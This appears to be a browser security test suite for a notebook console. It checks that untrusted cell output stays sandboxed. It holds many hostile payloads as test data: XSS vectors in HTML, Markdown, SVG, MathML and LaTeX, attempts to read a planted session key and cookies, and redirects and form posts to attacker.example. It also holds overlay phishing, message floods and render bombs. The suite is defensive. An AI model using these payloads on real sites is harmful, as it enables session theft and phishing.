// Output that attacks: what a cell shows may be written by anybody. One test for each thing it must not get.
import { createSocket } from "node:dgram";
import { createServer } from "node:http";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { blank, cell, editor, equal, frameOf, go, ok, run, runCell, serve, test, until } from "./support.mjs";

const house = await serve({ flags: ["--preload", ""] });
const SECRET = "rt_the-key-of-this-tab";

// Shows the HTML in a cell, and resolves with the frame it is in once its script has said that it is through.
async function attack(page, script, html = "") {
  await blank(page, house);
  await page.evaluate((key) => sessionStorage.setItem("planted", key), SECRET);
  await runCell(page, 1, `from IPython.display import HTML\nHTML(${JSON.stringify(`${html}<script>
    window.found = {};
    (async () => { ${script} })().catch((e) => { found.error = String(e); }).finally(() => { found.through = true; });
  </script>`)})`);
  const frame = await frameOf(page, 1);
  await frame.waitForFunction(() => window.found?.through);
  return frame.evaluate(() => window.found);
}
const noise = /Content Security Policy|sandboxed|Blocked|denied|Failed to load|ERR_|Unsafe attempt|CORS|Permissions policy/i;

test("it has no origin, and reads neither the page, its storage nor the key", async ({ page }) => {
  const found = await attack(page, `
    found.origin = self.origin;
    for (const [name, look] of Object.entries({
      page: () => parent.document.body.innerHTML, key: () => parent.sessionStorage.getItem("planted"),
      own: () => sessionStorage.getItem("planted"), local: () => localStorage.length, cookie: () => document.cookie,
      href: () => parent.location.href, top: () => top.document.title }))
      try { found[name] = String(look()); } catch (e) { found[name] = e.name; }`);
  equal(found.origin, "null");
  for (const name of ["page", "key", "own", "local", "cookie", "href", "top"]) equal(found[name], "SecurityError", name);
}, { noise });

test("it cannot call the API", async ({ page }) => {
  const before = (await house.call("v1/executions?limit=1000")).data.length;
  const found = await attack(page, `
    const at = ${JSON.stringify(house.url)};
    found.get = await fetch(at + "v1/sessions").then(() => "answered", (e) => e.name);
    found.post = await fetch(at + "v1/execute", { method: "POST", body: '{"code":"1"}', headers: { "content-type": "application/json" } }).then(() => "answered", (e) => e.name);
    found.beacon = await new Promise((go) => { addEventListener("securitypolicyviolation", (e) => go(e.effectiveDirective)); navigator.sendBeacon(at + "v1/execute", "{}"); });
    found.xhr = await new Promise((go) => { const x = new XMLHttpRequest(); x.onerror = () => go("error"); x.onload = () => go("answered"); x.open("GET", at + "v1/sessions"); x.send(); });
    found.image = await new Promise((go) => { const i = new Image(); i.onload = () => go("loaded"); i.onerror = () => go("refused"); i.src = at + "console/icon.svg"; });
    found.socket = await new Promise((go) => { try { const s = new WebSocket(at.replace("http", "ws")); s.onerror = () => go("error"); s.onopen = () => go("open"); } catch (e) { go(e.name); } });`);
  equal([found.get, found.post, found.beacon, found.xhr, found.image], ["TypeError", "TypeError", "connect-src", "error", "refused"]);
  ok(found.socket !== "open", "no socket");
  const after = (await house.call("v1/executions?limit=1000")).data.length;
  equal(after, before + 1, "executions");
}, { noise });

test("it cannot navigate the page, or send itself to another host", async ({ page, context }) => {
  const asked = [];
  context.on("request", (r) => asked.push(r.url()));
  const found = await attack(page, `
    try { top.location = "http://attacker.example/"; found.top = "went"; } catch (e) { found.top = e.name; }
    try { parent.location.hash = "#/keys"; found.hash = "went"; } catch (e) { found.hash = e.name; }
    const form = document.createElement("form"); form.action = "http://attacker.example/?form"; form.method = "post"; form.target = "_top"; document.body.append(form);
    form.submit();`);
  equal(found.top, "SecurityError");
  equal(new URL(page.url()).pathname, "/");
  ok(!page.url().includes("#/keys"), page.url());
  const frame = await frameOf(page, 1);
  await frame.evaluate(() => { location.href = "http://attacker.example/?stolen"; }).catch(() => {});
  await until("the frame is refused another address", () => !page.frames().some((f) => f.url().includes("stolen")));
  ok(!asked.some((u) => u.includes("attacker")), `a request went out: ${asked}`);
  await runCell(page, 1, "40 + 2");
  equal((await cell(page, 1).locator("pre.result").innerText()).trim(), "42");
}, { noise });

test("it cannot open windows, dialogs or downloads", async ({ page, context }) => {
  let opened = 0, dialogs = 0, downloads = 0;
  page.on("dialog", (d) => { dialogs++; d.dismiss(); });
  page.on("download", () => downloads++);
  context.on("page", () => opened++);
  const found = await attack(page, `
    found.window = window.open("about:blank") === null;
    alert("your key, please"); found.prompt = prompt("your key, please"); found.confirm = confirm("sure?");
    const a = document.createElement("a"); a.href = "data:text/plain,x"; a.download = "x.exe"; document.body.append(a); a.click();
    const b = document.createElement("a"); b.href = "http://attacker.example/"; b.target = "_blank"; document.body.append(b); b.click();
    found.print = (() => { try { print(); return "called"; } catch (e) { return e.name; } })();`);
  equal([found.window, found.prompt, found.confirm], [true, null, false]);
  equal([opened, dialogs, downloads], [0, 0, 0]);
}, { noise });

test("it cannot cover the page with an overlay", async ({ page }) => {
  await attack(page, `
    document.body.insertAdjacentHTML("beforeend", '<div style="position:fixed;inset:0;z-index:2147483647;background:red;width:5000px;height:5000px">Enter your key <input></div>');
    for (const height of [1e9, "1e9px", -5, NaN, { valueOf: () => 9e9 }]) try { parent.postMessage({ height }, "*"); } catch {}
    parent.postMessage({ ready: true, html: "<b>x</b>" }, "*");
    await new Promise((go) => requestAnimationFrame(() => requestAnimationFrame(go)));
    try { await document.documentElement.requestFullscreen(); found.full = true; } catch { found.full = false; }`, "<p>x");
  const box = await cell(page, 1).locator("iframe.frame").boundingBox();
  ok(box.height <= 640, `the frame is ${box.height} high`);
  const bar = await page.locator("header.bar").boundingBox();
  const there = await page.evaluate(([x, y]) => !!document.elementFromPoint(x, y).closest("header.bar"), [bar.x + 20, bar.y + bar.height / 2]);
  ok(there, "the bar is still on top");
  ok(await page.evaluate(() => !document.fullscreenElement), "not the whole screen");
}, { noise });

test("SVG, Markdown and LaTeX are in such a frame as well", async ({ page }) => {
  await blank(page, house);
  await runCell(page, 1, [
    "from IPython.display import *",
    "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.origin_seen = self.origin\"><circle r=\"5\"/></svg>'))",
    "display(Markdown('<img src=x onerror=\"window.origin_seen = self.origin\"> *x*'))",
    "display(Latex(r'$\\href{javascript:alert(1)}{x} \\includegraphics{http://attacker.example/x.png} \\kern{-60em}\\rule{9999em}{9999em}$'))",
  ].join("\n"));
  for (const at of [0, 1, 2]) equal(await (await frameOf(page, 1, at)).evaluate(() => self.origin), "null");
  await (await frameOf(page, 1, 1)).waitForFunction(() => window.origin_seen === "null");
  equal(await (await frameOf(page, 1, 2)).locator("a, img").count(), 0);
  ok((await cell(page, 1).locator("iframe.frame").nth(2).boundingBox()).height <= 640, "a formula is as high as it likes");
  equal(await page.evaluate(() => window.origin_seen), undefined);
}, { noise });

test("text, names and errors are text", async ({ page }) => {
  await blank(page, house);
  await runCell(page, 1, [
    "print('<img src=x onerror=\"window.hit=1\">\\x1b]8;;javascript:alert(1)\\x07link\\x1b]8;;\\x07')",
    "open('<img src=x onerror=window.hit=1>.txt', 'w').write('x')",
    "raise ValueError('<script>window.hit=1</script>')",
  ].join("\n"));
  await cell(page, 1).locator(".made").waitFor();
  ok((await cell(page, 1).locator(".error-head").innerText()).includes("<script>"), "it is shown as it is");
  equal(await page.evaluate(() => window.hit), undefined);
  equal(await cell(page, 1).locator(".out a, .out img, .out script").count(), 0);
});

test("it sends no packet by WebRTC", async ({ page, after }) => {
  const host = createSocket("udp4");
  let packets = 0;
  host.on("message", () => packets++);
  await new Promise((go) => host.bind(0, "127.0.0.1", go));
  after(() => host.close());
  const found = await attack(page, `
    const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${host.address().port}" }] });
    const over = new Promise((go) => { c.onicegatheringstatechange = () => c.iceGatheringState === "complete" && go(); });
    c.createDataChannel("x");
    await c.setLocalDescription(await c.createOffer());
    await over;
    found.state = c.iceGatheringState;`);
  equal([found.state, packets], ["complete", 0], "it has asked, and packets");
}, { noise });

test("it loops for ever, and the page goes on", async ({ page }) => {
  await blank(page, house);
  await runCell(page, 1, "from IPython.display import HTML\nHTML('<div style=\"height:300px\">x</div><script>setTimeout(() => { for (;;); })</script>')");
  await until("its script has run", async () => (await cell(page, 1).locator("iframe.frame").boundingBox()).height > 300);
  await page.getByRole("button", { name: "Python", exact: true }).click();
  await runCell(page, 2, "6 * 7");
  equal((await cell(page, 2).locator("pre.result").innerText()).trim(), "42");
}, { noise });

test("it floods the page with messages, and is stopped", async ({ page }) => {
  await blank(page, house);
  const floods = {
    heights: "setInterval(() => { for (let i = 0; i < 2000; i++) parent.postMessage({ height: 100 + (i % 200) }, '*'); }, 5)",
    "its own text, again": "setInterval(() => { for (let i = 0; i < 2000; i++) parent.postMessage({ ready: true }, '*'); }, 5)",
  };
  for (const [what, script] of Object.entries(floods)) {
    await runCell(page, 1, `HTML = __import__('IPython.display').display.HTML\nHTML(${JSON.stringify(`<p>x</p><script>${script}</script>`)} + '<!--' + 'y' * 1_000_000 + '-->')`);
    await until(`${what}: it is stopped`, () => cell(page, 1).getByText("This output was stopped").count());
    equal(await cell(page, 1).locator("iframe").count(), 0, what);
  }
  await runCell(page, 1, "40 + 2");
  equal((await cell(page, 1).locator("pre.result").innerText()).trim(), "42");
}, { noise });

// What needs no script to attack: each is shown, clicked at, and leads nowhere.
const MARKUP = (host) => ({
  "meta refresh": `HTML('<meta http-equiv="refresh" content="0;url=${host}?refresh"><p class=there>x</p>')`,
  "a base": `HTML('<base href="${host}" target="_top"><a class=there href="?base">x</a>')`,
  "a form": `HTML('<form action="${host}?form" method=post target=_top><input name=key><button class=there>x</button></form>')`,
  "a link to the top": `HTML('<a class=there target=_top href="${host}?top">x</a>')`,
  "a script's link in Markdown": `Markdown('[x](javascript:top.location="${host}?md") <a class=there href="javascript:top.hit=1">y</a>')`,
  "MathML": `HTML('<math><mtext class=there href="javascript:top.hit=1">x</mtext><maction actiontype="statusline" xlink:href="javascript:top.hit=1"><mn>1</mn></maction></math>')`,
  "SVG": `SVG('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="60"><script>top.hit=1</script><a xlink:href="javascript:top.hit=1"><text class="there" y="20">x</text></a><image href="${host}?image"/><use href="${host}?use#a"/><foreignObject width="90" height="30"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${host}?foreign"></iframe></body></foreignObject></svg>')`,
  "style": `HTML('<style>@import "${host}?import"; html, body, .there { position: fixed; inset: 0; z-index: 9999999; background: red url(${host}?css); } @font-face { font-family: f; src: url(${host}?font) } * { font-family: f }</style><p class=there>x</p>')`,
  "prefetch": `HTML('<link rel=prefetch href="${host}?prefetch"><link rel=preload as=image href="${host}?preload"><link rel=prerender href="${host}?prerender"><p class=there>x</p>')`,
  "media": `HTML('<video src="${host}?video" autoplay></video><object data="${host}?object"></object><embed src="${host}?embed"><p class=there>x</p>')`,
});

test("markup without a script of its own leads nowhere either", async ({ page, context, after }) => {
  const asked = [];
  const attacker = createServer((ask, answer) => (asked.push(ask.url), answer.end()));
  await new Promise((go) => attacker.listen(0, "127.0.0.1", go));
  after(() => (attacker.closeAllConnections(), attacker.close()));
  const host = `http://127.0.0.1:${attacker.address().port}/`;
  let opened = 0;
  await blank(page, house);
  context.on("page", () => opened++);
  const at = page.url();
  for (const [what, code] of Object.entries(MARKUP(host))) {
    await runCell(page, 1, `from IPython.display import *\n${code}`);
    // What has left for another address has nothing to click at any more.
    await cell(page, 1).frameLocator("iframe").locator(".there").first().click({ timeout: 2000, force: true }).catch(() => {});
    await page.evaluate(() => new Promise((go) => requestAnimationFrame(() => setTimeout(go))));
    equal([page.url(), await page.evaluate(() => window.hit), opened], [at, undefined, 0], what);
    const bar = await page.locator("header.bar").evaluate((e) => {
      const b = e.getBoundingClientRect();
      return !!document.elementFromPoint(b.x + 20, b.y + b.height / 2).closest("header.bar");
    });
    ok(bar, `${what}: the bar is still on top`);
  }
  await fetch(`${host}?of-ours`);
  equal(asked, ["/?of-ours"], "requests to another host");
}, { noise });

test("names of files and sessions, and a notebook of Jupyter, are text and break nothing", async ({ page }) => {
  const evil = "<img src=x onerror=window.hit=1>";
  await blank(page, house);
  await runCell(page, 1, `import os\nos.makedirs('d')\nopen(${JSON.stringify(evil + ".csv")}, 'w').write(${JSON.stringify(`${evil},b\n${evil},2\n`)})\nopen('d/\\u202egnp.exe', 'w').write('x')`);
  await cell(page, 1).getByRole("button", { name: "d/\\u202egnp.exe" }).waitFor(); // it does not pass for exe.png
  await page.getByRole("button", { name: /Rename the session/ }).click();
  await page.getByRole("textbox", { name: "Rename the session" }).fill(evil);
  await page.keyboard.press("Enter");
  await page.getByRole("button", { name: `${evil} Rename the session` }).waitFor();
  await go(page, "Files");
  await page.getByRole("button", { name: `Preview ${evil}.csv` }).click();
  await page.locator("dialog td").first().waitFor();
  equal(await page.locator("dialog img, main img").count(), 0);
  await page.getByRole("button", { name: "Close" }).click();
  for (const view of ["Sessions", "Records"]) {
    await go(page, view);
    await page.locator("tbody tr").first().waitFor();
  }
  await page.getByRole("link", { name: /^Open exec_/ }).first().click();
  await page.getByText(/^\d+ events?$/).waitFor();

  // In every field of a record, and of a session that is asked about.
  const there = await house.call("v1/sessions", { name: evil, metadata: { evil } }).catch(() => house.call("v1/sessions", { name: evil }));
  const ran = await house.call(`v1/sessions/${there.id}/execute`, { code: `# ${evil}\nopen(${JSON.stringify(evil)}, 'w').write('x')\nprint(${JSON.stringify(evil)})\nraise type(${JSON.stringify(evil)}, (Exception,), {})(${JSON.stringify(evil)})` });
  await page.goto(`${house.url}#/records/${ran.id}`);
  await page.locator(".error-head").getByText(evil).first().waitFor();
  await page.getByRole("region", { name: "Files" }).getByText(evil).waitFor();
  await page.goto(`${house.url}#/records/${encodeURIComponent(evil)}`);
  await page.locator(".problem").waitFor();
  equal([await page.locator("main img").count(), await page.locator(".facts").count()], [0, 0], "a record that is not there");

  await go(page, "Notebook");
  const many = join(house.place, "many.ipynb");
  writeFileSync(many, JSON.stringify({ nbformat: 4, cells: Array(50_000).fill({ cell_type: "code", source: "1", outputs: [] }) }));
  await page.getByLabel("A notebook to open").setInputFiles(many);
  await page.getByText("This notebook has 50,000 cells").waitFor();
  const book = { nbformat: 4, nbformat_minor: 5, metadata: { title: evil }, cells: [null, 5,
    { cell_type: "markdown", source: { evil } }, { cell_type: "code", source: ["1"], outputs: "none" },
    { cell_type: "code", source: "print('still here')", outputs: [null, 7, "text",
      { output_type: "error", ename: { evil }, evalue: { evil }, traceback: "no list" },
      { output_type: "stream", name: evil, text: { evil } },
      { output_type: "display_data", data: { "image/png": `x" onerror="window.hit=1`, "text/plain": { evil } } },
      { output_type: "display_data", data: { "text/html": { evil } } },
      { output_type: "execute_result", data: "none" },
      { output_type: "execute_result", data: { "application/json": "{not JSON", "text/plain": [evil] } },
      { output_type: "execute_result", data: { "text/plain": ["it is", " read"] } }] }] };
  const path = join(house.place, "evil.ipynb");
  writeFileSync(path, JSON.stringify(book));
  await page.getByLabel("A notebook to open").setInputFiles(path);
  await page.getByText("it is read", { exact: true }).waitFor();
  await until("its code is there", async () => (await editor(page, 3).innerText()) === "print('still here')");
  const [saved] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Save as .ipynb" }).click()]);
  ok(await saved.path(), "and it is saved again");
  await runCell(page, 3);
  equal(await cell(page, 3).locator(".stdout").innerText(), "still here");
  equal(await page.evaluate(() => window.hit), undefined);
}, { noise: /ERR_INVALID_URL|data:|404/ });

// Small for who writes it, and without end for who draws it. Each is shown, and the page can be typed in all the while.
const BOMBS = {
  "Markdown that nests": "Markdown('>' * 190_000)",
  "formulas that never close": "Markdown(r'\\[ ' * 60_000)",
  "a formula of a hundred thousand letters": "Latex('$' + 'x' * 190_000 + '$')",
  "a formula as high as a mountain": "Latex(r'$\\rule{99999em}{99999em}$')",
  "JSON that is one string": "JSON({'a': 'x' * 3_000_000, 'y' * 3_000_000: 1})",
  "JSON that is deep, and has no end": "display({'application/json': '[' * 2_000_000, 'text/plain': ''}, raw=True)",
  "JSON that is wide": "JSON(list(range(300_000)))",
  "five million lines": "print('\\n' * 5_000_000)",
  "a line that is drawn anew in a thousand colours": "print('\\x1b[31ma\\x1b[32mb' * 999 + '\\rc' * 300_000)",
  "a thousand pictures of HTML": "for i in range(1000): display(HTML('<b>x</b>'))",
};

test("what is small and endless does not hold the page", async ({ page }) => {
  await blank(page, house);
  for (const [what, code] of Object.entries(BOMBS)) {
    await runCell(page, 1, `from IPython.display import *\n${code}`);
    await page.evaluate(() => new Promise((go) => requestAnimationFrame(() => setTimeout(go))));
    ok((await cell(page, 1).boundingBox()).height < 6000, `${what}: the cell is as high as it likes`);
  }
  await runCell(page, 1, "print('line\\n' * 55_000)");
  await cell(page, 1).getByText("54,971 lines are folded here.").waitFor();
  await cell(page, 1).getByRole("button", { name: "Show 45,001 of 55,001" }).click();
  await cell(page, 1).getByText("10,000 lines are too many for a page.").waitFor();
});

test("a file that is a bomb is looked at, and the page goes on", async ({ page }) => {
  await blank(page, house);
  await runCell(page, 1, [
    "uses = ''.join(f'<g id=\"a{i}\">' + f'<use href=\"#a{i - 1}\"/>' * 10 + '</g>' for i in range(1, 9))",
    "open('laughs.svg', 'w').write(f'<svg xmlns=\"http://www.w3.org/2000/svg\"><script>top.hit = 1</script><g id=\"a0\"><circle r=\"5\"/></g>{uses}</svg>')",
    "open('wide.csv', 'w').write(',' * 200_000 + '\\n' + '\"' + 'x' * 200_000)",
    "open('line.txt', 'w').write('x' * 250_000)",
    "open('head.png', 'wb').write(b'\\x89PNG\\r\\n\\x1a\\n\\0\\0\\0\\rIHDR\\xff\\xff\\xff\\xff\\xff\\xff\\xff\\xff')",
  ].join("\n"));
  await go(page, "Files");
  for (const name of ["wide.csv", "line.txt", "head.png", "laughs.svg"]) {
    await page.getByRole("button", { name: `Preview ${name}` }).click();
    await page.getByRole("dialog").locator(".data, .preview-text, .picture, iframe.frame").first().waitFor({ state: "attached" });
    await page.getByRole("button", { name: "Close" }).click();
    await page.getByRole("dialog").waitFor({ state: "detached" });
  }
  equal(await page.evaluate(() => window.hit), undefined);
}, { noise: /sandboxed|ERR_|Unsafe|SecurityError|Content Security Policy|Failed to read|Blocked a frame/i });

test("the page has a strict policy and is nobody's frame", async ({ page }) => {
  const answer = await fetch(house.url, { headers: { accept: "text/html" } });
  const policy = answer.headers.get("content-security-policy");
  for (const part of ["default-src 'none'", "script-src 'self'", "style-src 'self'", "frame-ancestors 'none'", "base-uri 'none'", "form-action 'none'", "connect-src 'self'"])
    ok(policy.split("; ").includes(part), `${part} in ${policy}`);
  equal(answer.headers.get("x-content-type-options"), "nosniff");
  const html = await answer.text();
  ok(!/<script(?![^>]*src=)|\son\w+=|style=/.test(html), "nothing inline");
  const frame = await fetch(house.url + "console/frame.html");
  ok(frame.headers.get("content-security-policy").startsWith("sandbox allow-scripts; default-src 'none'"), "the frame's own");
  const asked = [];
  page.on("request", (r) => asked.push(new URL(r.url()).origin));
  await page.goto(house.url);
  await page.locator("nav.side").waitFor();
  equal([...new Set(asked)], [new URL(house.url).origin]);
});

await run(house);
